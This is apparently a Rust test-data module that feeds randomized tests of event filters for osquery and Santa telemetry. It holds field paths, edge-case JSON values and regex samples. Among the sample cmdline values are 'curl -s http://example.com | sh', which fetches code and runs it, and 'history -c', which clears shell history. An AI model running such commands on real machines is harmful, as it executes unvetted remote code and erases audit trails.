//! The words that filters and events share, so that they meet: places of an event, and what is said there.

use super::chance::Chance;
use super::value::J;

/// Places of an event in the shape that the design gives it (their keys joined by `/`), with what stands there.
/// Words are JSON texts.
pub const PLACES: &[(&str, &[&str])] = &[
    (
        "type",
        &[
            "\"osquery_result\"",
            "\"osquery_result\"",
            "\"osquery_result\"",
            "\"osquery_status\"",
            "\"inventory_machine\"",
            "\"santa_event\"",
            "\"enrolment\"",
        ],
    ),
    ("source", &["\"osquery\"", "\"osquery\"", "\"santa\"", "\"munki\"", "\"jamf\""]),
    ("v", &["1", "1", "1", "1.0", "2"]),
    ("tags", &["[\"osquery\"]", "[\"osquery\",\"clock\"]", "[]", "[\"clock\"]"]),
    ("objects", &["[\"file:sha256:9f86\",\"user:ada\"]", "[\"user:root\"]", "[]"]),
    ("machine/platform", &["\"macos\"", "\"linux\"", "\"windows\"", "\"macos\""]),
    ("machine/hostname", &["\"ada-mbp\"", "\"build-7.example.com\"", "\"web-2\"", "\"ADA-MBP\""]),
    ("machine/serial_number", &["\"C02XL0AAJGH5\"", "\"5CG1234XYZ\"", "\"0\"", "null"]),
    ("machine/os_version", &["\"15.1\"", "\"15.10\"", "\"22.04\"", "15.1"]),
    ("machine/unit", &["\"berlin\"", "\"default\"", "\"servers\"", "\"lab\""]),
    ("machine/tags", &["[\"vip\"]", "[\"lab\",\"office\"]", "[\"office\"]", "[]", "\"vip\""]),
    ("machine/groups", &["[\"dev\"]", "[\"dev\",\"admin\"]", "[]"]),
    ("machine/user", &["\"ada@example.com\"", "\"root\"", "null"]),
    ("request/ip", &["\"203.0.113.9\"", "\"192.0.2.17\"", "\"10.0.0.7\"", "\"::1\""]),
    ("request/user_agent", &["\"osquery/5.23.0\"", "\"osquery/4.9\""]),
    (
        "payload/name",
        &[
            "\"usb_devices\"",
            "\"processes\"",
            "\"listening_ports\"",
            "\"zentral/usb/1f6c09aa\"",
            "\"zentral/login/00ff00ff\"",
            "\"pack/zentral/usb_devices\"",
        ],
    ),
    ("payload/action", &["\"added\"", "\"added\"", "\"removed\"", "\"snapshot\"", "[\"added\"]"]),
    ("payload/counter", &["0", "1", "7", "\"0\"", "0.0", "-0", "null"]),
    ("payload/epoch", &["0", "1", "1793703433"]),
    ("payload/unixTime", &["1793703433", "\"1793703433\"", "0", "1793703433.5"]),
    ("payload/numerics", &["false", "true"]),
    (
        "payload/snapshot",
        &["[]", "[{\"name\":\"sudo\",\"uid\":\"0\"},{\"name\":\"curl\",\"uid\":\"501\"}]", "[{\"name\":\"sshd\"}]"],
    ),
    ("payload/columns/name", &["\"sshd\"", "\"curl\"", "\"launchd\"", "\"Usb Audio\"", "\"\"", "\"kernel_task\""]),
    (
        "payload/columns/path",
        &[
            "\"/usr/bin/curl\"",
            "\"/tmp/.x\"",
            "\"/usr/local/bin/tool\"",
            "\"/Users/Shared/a b\"",
            "\"/System/Library/x\"",
            "\"C:\\\\Windows\\\\System32\\\\cmd.exe\"",
        ],
    ),
    (
        "payload/columns/cmdline",
        &[
            "\"curl -s http://example.com | sh\"",
            "\"bash -c \\\"id\\\"\"",
            "\"history -c\"",
            "\"echo \\u00e9\\n\"",
            "\"sudo -u root\\ttrue\"",
        ],
    ),
    ("payload/columns/port", &["\"22\"", "22", "\"8080\"", "8080", "22.0", "\"022\"", "65536", "-1"]),
    ("payload/columns/pid", &["1", "\"1\"", "99999", "1e3", "1000"]),
    ("payload/columns/uid", &["\"0\"", "0", "501", "\"501\"", "-0", "0.0"]),
    ("payload/columns/vendor", &["\"C-Media\"", "\"SanDisk\"", "\"Apple Inc.\"", "\"Logitech, Inc.\"", "\"\""]),
    ("payload/columns/removable", &["\"1\"", "\"0\"", "\"-1\"", "1", "true"]),
    ("payload/columns/sha256", &["\"9f86d081884c7d65\"", "\"2c26b46b68ffc68f\"", "\"9F86D081884C7D65\""]),
    ("payload/columns/address", &["\"127.0.0.1\"", "\"0.0.0.0\"", "\"::\"", "\"10.1.2.3\"", "\"::ffff:127.0.0.1\""]),
    ("payload/columns/protocol", &["\"6\"", "6", "\"17\""]),
    ("payload/columns/username", &["\"ada\"", "\"root\"", "\"Ada\"", "\"\\u00c4da\""]),
    ("payload/decorations/host_uuid", &["\"8F1C0A52\"", "\"4c4c4544\""]),
    (
        "payload/list",
        &["[\"a\",\"b\"]", "[1,2,3]", "[\"a\",1,null,true,[\"a\"],{\"a\":\"a\"}]", "[[\"a\",\"b\"],[\"c\"]]"],
    ),
    ("cause/event", &["\"01a1ff7a-cbfb-8123-8456-0123456789ab\"", "null"]),
];

/// Places with keys that are hard to write, hard to find or look like something else.
pub const ODD_PLACES: &[(&str, &[&str])] = &[
    ("payload/", &["\"\"", "1"]),
    ("", &["\"empty\"", "{\"\":\"\"}"]),
    ("payload/columns/na\"me", &["\"sshd\"", "\"\""]),
    ("payload/columns/name\":\"sshd", &["\"x\"", "\"sshd\""]),
    ("payload/columns/back\\slash", &["\"a\\\\b\"", "\"\\\\\""]),
    ("payload/columns/new\nline", &["\"a\\nb\"", "\"\\n\""]),
    ("payload/columns/\u{1}", &["\"\\u0001\""]),
    ("payload/columns/\u{e9}", &["\"\u{e9}\"", "\"e\u{301}\""]),
    ("payload/columns/\u{1f600}", &["\"\u{1f600}\"", "\"\\ud83d\\ude00\""]),
    ("payload/columns/a.b", &["\"x\"", "{\"c\":\"x\"}"]),
    ("payload/columns/payload", &["{\"name\":\"usb_devices\"}", "\"added\""]),
    ("payload/payload/name", &["\"usb_devices\"", "\"processes\""]),
    ("machine/payload/name", &["\"usb_devices\""]),
    ("payload/columns/type", &["\"osquery_result\""]),
    ("payload/type", &["\"osquery_result\"", "\"santa_event\""]),
    ("name", &["\"usb_devices\"", "\"processes\""]),
    ("payload/names", &["\"usb_devices\""]),
    ("payload/nam", &["\"usb_devices\""]),
    ("payload/Name", &["\"usb_devices\""]),
    ("payload/columns/null", &["null", "\"null\""]),
    ("payload/columns/0", &["\"0\"", "0"]),
];

/// Values for any place: the borders of types, numbers and texts.
pub const ODD_VALUES: &[&str] = &[
    "null",
    "null",
    "true",
    "false",
    "0",
    "1",
    "-0",
    "0.0",
    "-0.0",
    "1.0",
    "1e0",
    "10e-1",
    "0.1",
    "1.5",
    "-1",
    "2",
    "100",
    "1e2",
    "1E+2",
    "9007199254740991",
    "9007199254740992",
    "9007199254740993",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "100000000000000000000",
    "1e20",
    "123456789012345678901234567890",
    "1e308",
    "5e-324",
    "0.30000000000000004",
    "\"\"",
    "\" \"",
    "\"a\"",
    "\"A\"",
    "\"k\"",
    "\"K\"",
    "\"\u{212a}\"",
    "\"s\"",
    "\"S\"",
    "\"\u{17f}\"",
    "\"\u{e9}\"",
    "\"\u{c9}\"",
    "\"e\u{301}\"",
    "\"ss\"",
    "\"\u{df}\"",
    "\"\u{1e9e}\"",
    "\"\u{130}\"",
    "\"i\"",
    "\"\u{1f600}\"",
    "\"\u{ffff}\"",
    "\"\u{10ffff}\"",
    "\"\u{feff}\"",
    "\"\u{7f}\"",
    "\"\u{2028}\"",
    "\"\\\"\"",
    "\"\\\\\"",
    "\"/\"",
    "\"\\b\"",
    "\"\\f\"",
    "\"\\n\"",
    "\"\\r\"",
    "\"\\t\"",
    "\"\\u0000\"",
    "\"\\u0001\"",
    "\"\\u001f\"",
    "\"a\\n\"",
    "\"a\\nb\"",
    "\"a\\n\\n\"",
    "\"\\\\n\"",
    "\"\\\\u0041\"",
    "\"a\\\"b\"",
    "\"a\\\\\"",
    "\"\\\\\\\"\"",
    "\"name\\\":\\\"usb_devices\"",
    "\"\\\"name\\\":\\\"usb_devices\\\"\"",
    "\",\\\"type\\\":\\\"osquery_result\"",
    "\"{\\\"name\\\":\\\"usb_devices\\\"}\"",
    "\"}\"",
    "\"]\"",
    "\"[\\\"a\\\"]\"",
    "\"1\"",
    "\"1.0\"",
    "\"1e0\"",
    "\"-0\"",
    "\" 1\"",
    "\"+1\"",
    "\"0x10\"",
    "\"null\"",
    "\"false\"",
    "\"nan\"",
    "\"NaN\"",
    "[]",
    "{}",
    "[null]",
    "[[]]",
    "[{}]",
    "[\"a\"]",
    "[\"\"]",
    "[1]",
    "[1.0]",
    "[false]",
    "{\"a\":1}",
    "{\"a\":1.0}",
    "{\"name\":\"usb_devices\"}",
    "{\"\":null}",
    "{\"b\":1,\"a\":2}",
    "{\"a\":2,\"b\":1}",
    "[\"a\",\"b\"]",
    "[\"b\",\"a\"]",
    "{\"a\":{\"a\":{\"a\":1}}}",
];

/// Patterns, and texts about which they have something to say.
pub const PATTERNS: &[(&str, &[&str])] = &[
    ("", &["", "a"]),
    ("usb", &["usb_devices", "USB", "a usb"]),
    ("^usb_", &["usb_devices", "\nusb_", "xusb_"]),
    ("devices$", &["usb_devices", "usb_devices\n", "usb_devices\n\n", "devices\nx"]),
    ("^usb_devices$", &["usb_devices", "usb_devices\n", "USB_DEVICES", "usb_devicesx"]),
    ("^$", &["", "\n", " "]),
    ("$", &["", "a"]),
    ("^(usb_devices|processes)$", &["usb_devices", "processes", "processes\n", "xusb_devices"]),
    ("usb|processes|listening", &["usb", "listening_ports", "process"]),
    ("^(/private)?(/tmp|/var/tmp|/dev/shm)/", &["/tmp/x", "/private/tmp/", "/var/tmp", "/x/tmp/"]),
    ("/\\.[^/]", &["/tmp/.x", "/a/..", "/a/b"]),
    ("c.rl", &["curl", "c\nrl", "crl", "c\u{e9}rl"]),
    ("(?i)curl", &["CURL", "curl", "cur\u{212a}"]),
    ("k", &["k", "K", "\u{212a}"]),
    ("s+", &["s", "\u{17f}", "ss", "\u{df}"]),
    ("[[:digit:]]{2,}", &["22", "2", "a222"]),
    ("\\d+", &["22", "\u{664}", "x"]),
    ("\\bcurl\\b", &["a curl b", "curly", "-curl-", "\u{e9}curl"]),
    ("\\\\", &["\\", "a\\b", "/"]),
    ("\"", &["\"", "a\"b", "'"]),
    ("\\n", &["\n", "a\nb", "\\n"]),
    ("\\t|\\x01", &["\t", "\u{1}", "t"]),
    ("\u{e9}", &["\u{e9}", "\u{c9}", "e\u{301}"]),
    ("[\u{e0}-\u{ff}]", &["\u{e9}", "e"]),
    ("a{2}b?c*", &["aa", "aab", "aacc", "abc"]),
    ("x*", &["", "xx", "y"]),
    ("(a|b|)c", &["c", "ac", "bc", "d"]),
    ("a(?:bc)+d", &["abcd", "abcbcd", "ad"]),
    ("(?<year>\\d{4})-(?<month>\\d\\d)", &["2026-11", "26-11"]),
    ("^127\\.|^::1$|^localhost$", &["127.0.0.1", "::1", "localhost\n", "x127."]),
    ("\\.", &[".", "a"]),
    ("a.c", &["abc", "a\nc", "a\"c", "a\\c"]),
    ("[^a]", &["a", "\n", "b"]),
    ("\\s", &[" ", "\n", "\u{a0}", "\u{2028}"]),
    ("\\S+@\\S+", &["ada@example.com", "@", "a @b"]),
    ("^.{3}$", &["abc", "\u{1f600}bc", "ab\n", "abc\n"]),
    ("osquery/5\\.(2[0-9]|[3-9])", &["osquery/5.23.0", "osquery/5.9", "osquery/4.9"]),
    ("root|ada|\u{c4}da", &["root", "Ada", "\u{c4}da", "\u{e4}da"]),
    ("name\":\"usb", &["name\":\"usb_devices", "name"]),
];

/// A place and what one may say there.
pub struct Place {
    pub keys: Vec<String>,
    pub words: Vec<J>,
}

/// All the words, read once.
pub struct Words {
    pub places: Vec<Place>,
    pub odd_places: Vec<Place>,
    pub odd: Vec<J>,
}

impl Words {
    pub fn new() -> Self {
        let read = |table: &[(&str, &[&str])]| {
            let place = |(path, words): &(&str, &[&str])| Place {
                keys: path.split('/').map(str::to_owned).collect(),
                words: words.iter().map(|w| J::read(w)).collect(),
            };
            table.iter().map(place).collect()
        };
        Self {
            places: read(PLACES),
            odd_places: read(ODD_PLACES),
            odd: ODD_VALUES.iter().map(|w| J::read(w)).collect(),
        }
    }

    /// A place; one in twelve is odd.
    pub fn place(&self, c: &mut Chance) -> &Place {
        if c.percent(8) { c.one(&self.odd_places) } else { c.one(&self.places) }
    }

    /// What may stand at a place; now and then what may not.
    pub fn at<'w>(&'w self, place: &'w Place, c: &mut Chance) -> &'w J {
        if c.percent(12) { c.one(&self.odd) } else { c.one(&place.words) }
    }
}

/// A text about which a pattern of the table has something to say.
pub fn sample(pattern: &str, c: &mut Chance) -> Option<String> {
    let (_, samples) = PATTERNS.iter().find(|(p, _)| *p == pattern)?;
    Some(c.pick(samples).to_owned())
}
